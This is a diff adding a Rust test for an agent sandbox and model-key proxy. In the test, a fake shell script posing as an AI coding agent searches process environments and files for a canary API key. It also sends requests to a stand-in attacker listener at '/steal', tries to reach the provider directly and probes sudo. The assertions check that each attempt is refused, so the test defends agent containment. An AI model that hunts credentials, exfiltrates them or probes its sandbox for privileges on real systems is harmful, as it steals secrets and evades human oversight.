@@ -705,3 +705,119 @@ fn the_workflows_model_proxy_deletes_the_key_file_and_withholds_the_key() {
         "{said}"
     );
 }
+
+/// The shipped agent job on the fake's runner, whose agent step runs its
+/// CLI in `supervise fence` as on GitHub. The CLI here is a program of the
+/// test's standing in for Claude Code: it hunts for the model key (its
+/// environment, every `/proc/*/environ` and `cmdline` it can see, the job's
+/// temporary directory, its home and the checkout), calls an attacker's
+/// listener directly and through the proxy, the provider's own address, an
+/// allowed registry and its model, and tries `sudo`, then commits what it
+/// found as its work. It finds no key and reaches only the registry and its
+/// model; the key reached the model from the proxy alone, and the attempt's
+/// check run lists what was refused.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_fenced_agent_on_github_finds_no_key_and_reaches_only_its_model() {
+    const KEY: &str = "sk-ant-api03-fenced-canary-0123456789abcdef";
+    let model = fake_github::model::ModelServer::start();
+    let (attacker, stolen) = listener("127.0.0.2:0");
+    let (registry, fetched) = listener("127.0.0.1:0");
+    let registry_port = registry.rsplit(':').next().unwrap().to_string();
+    let s = Story::start(Setup::operation(ONE, "")).await;
+    let cli = s.tmp.path().join("claude");
+    std::fs::write(
+        &cli,
+        format!(
+            r#"#!/bin/sh
+# Not Claude Code: an agent that hunts and probes (see the test).
+mkdir -p solo
+out=solo/solo-sprint-1.txt
+try() {{ printf '%s ' "$1"; shift; curl -s -m 5 -o /dev/null -w '%{{http_code}}\n' "$@" || true; }}
+{{
+  echo "== key"
+  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
+    tr '\0' '\n' < "$f" 2>/dev/null | grep -q 'fenced-canary' && echo "key in $f"
+  done
+  grep -rls 'fenced-canary' "$RUNNER_TEMP" "$HOME" . 2>/dev/null | sed 's/^/key in /'
+  env | grep -q 'fenced-canary' && echo "key in the environment"
+  echo "agent's pid: $$"
+  for f in /proc/[0-9]*/cmdline; do
+    tr '\0' ' ' < "$f" 2>/dev/null | grep -q 'supervise' && echo "supervise seen in $f"
+  done
+  echo "== network"
+  try direct-attacker --noproxy '*' "http://{attacker}/steal"
+  try proxied-attacker "http://{attacker}/steal"
+  try proxied-attacker-tls "https://{attacker}/steal"
+  try provider-direct --noproxy '*' "{provider}/v1/messages"
+  try registry "http://localhost:{registry_port}/package"
+  body='{{"model":"'"$SUPERVISE_MODEL"'","max_tokens":16,"messages":[{{"role":"user","content":"hello"}}]}}'
+  try model -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' \
+    -H 'anthropic-version: 2023-06-01' -d "$body" "$ANTHROPIC_BASE_URL/v1/messages"
+  echo "== sudo"
+  if sudo -n true 2>/dev/null; then echo "became root"; else echo "no root"; fi
+}} > "$out" 2>&1
+git add -A && git commit -qm "solo sprint 1 (probed)"
+echo "Done."
+"#,
+            provider = model.url,
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&cli, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    s.use_agent_cli(
+        "claude-code",
+        "@anthropic-ai/claude-code",
+        &cli,
+        "2.1.332",
+        &[("SUPERVISE_ANTHROPIC_BASE_URL", model.url.clone())],
+        &[("ANTHROPIC_API_KEY", KEY)],
+        ["scripted-haiku", "scripted-sonnet", "scripted-opus"],
+    );
+    s.fake.add_file(
+        REPO,
+        ".github/supervise.yml",
+        "agent: claude-code\nnetwork:\n  allowed_domains: [localhost]\n",
+    );
+    s.say("/supervise start").await;
+    s.until("the final pull request", 180, |s| s.final_pull().is_some())
+        .await;
+    let bare = s.tmp.path().join("github/repos/acme/shop.git");
+    let head = s.final_pull().unwrap().head;
+    let found = support::git(&bare, &["show", &format!("{head}:solo/solo-sprint-1.txt")]);
+    assert!(!found.contains("key in"), "{found}");
+    assert!(!found.contains("supervise seen"), "{found}");
+    for line in [
+        "agent's pid: 1",
+        "direct-attacker 000",
+        "proxied-attacker 403",
+        "provider-direct 000",
+        "registry 200",
+        "model 200",
+        "no root",
+    ] {
+        assert!(found.contains(line), "{line}:\n{found}");
+    }
+    assert!(!found.contains("proxied-attacker-tls 200"), "{found}");
+    let seen = |n: &std::sync::atomic::AtomicUsize| n.load(std::sync::atomic::Ordering::SeqCst);
+    assert_eq!(seen(&stolen), 0, "{found}");
+    assert_eq!(seen(&fetched), 1, "{found}");
+    assert_eq!(
+        model.keys(),
+        vec![KEY.to_string()],
+        "only the call through the proxy, with the key"
+    );
+    assert_eq!(model.via(), vec!["1.1 supervise-model-proxy".to_string()]);
+    let check = s
+        .fake
+        .check_runs(REPO)
+        .into_iter()
+        .find(|c| c.name == "supervise: solo Sprint 1")
+        .expect("the attempt's check run");
+    assert!(
+        check
+            .summary
+            .contains("the agent's sandbox refused connections to 127.0.0.2 (2)"),
+        "{}",
+        check.summary
+    );
+}
